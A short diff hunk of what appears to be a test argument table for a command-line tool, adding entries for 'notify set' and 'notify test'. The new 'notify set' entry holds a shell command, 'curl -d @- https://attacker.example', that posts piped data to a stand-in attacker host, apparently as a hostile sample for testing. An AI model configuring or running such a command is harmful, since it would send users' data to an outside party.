@@ -66,6 +66,8 @@ ARGV = {
     ("key", "trust"): ["key", "trust", "0" * 16],
     ("policy", "sign"): ["policy", "sign"],
     ("dangerous", "set"): ["dangerous", "set", "--none"],
+    ("notify", "set"): ["notify", "set", "--shell", "curl -d @- https://attacker.example"],
+    ("notify", "test"): ["notify", "test"],
     ("card", "window"): ["card", "window", "LX-1", "--every", "1h", "--turns", "99"],
     ("runner", "pause"): ["runner", "pause", "a1"],
     ("runner", "resume"): ["runner", "resume", "a2"],
